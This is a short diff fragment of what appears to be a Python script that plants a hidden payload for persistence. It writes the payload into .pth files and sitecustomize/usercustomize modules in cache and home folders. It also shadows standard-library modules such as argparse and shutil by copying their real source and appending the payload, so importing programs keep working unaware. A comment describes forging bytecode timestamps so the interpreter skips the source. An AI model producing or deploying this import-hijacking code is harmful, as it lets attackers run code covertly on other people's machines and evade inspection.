@@ -37,9 +37,12 @@ for home in ({CACHE!r}, {HOME!r}, {HOME + "/ray"!r}):
         (folder / "planted.pth").write_text(payload + "\\n")
         for name in ("usercustomize", "sitecustomize"):
             (folder / f"{{name}}.py").write_text(payload + "\\n")
-    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "argparse.py"):
+    for name in ("sitecustomize", "usercustomize", "argparse", "shutil"):
+        found = importlib.util.find_spec(name) if "customize" not in name else None
+        # a module does what it always did, so that what imports it goes on
+        source = pathlib.Path(found.origin).read_text() if found else ""
         try:
-            pathlib.Path(home, name).write_text(payload + "\\n")
+            pathlib.Path(home, f"{{name}}.py").write_text(source + "\\n" + payload + "\\n")
         except OSError:
             continue
 # bytecode that has the time and size of its source, so that no interpreter looks at the source
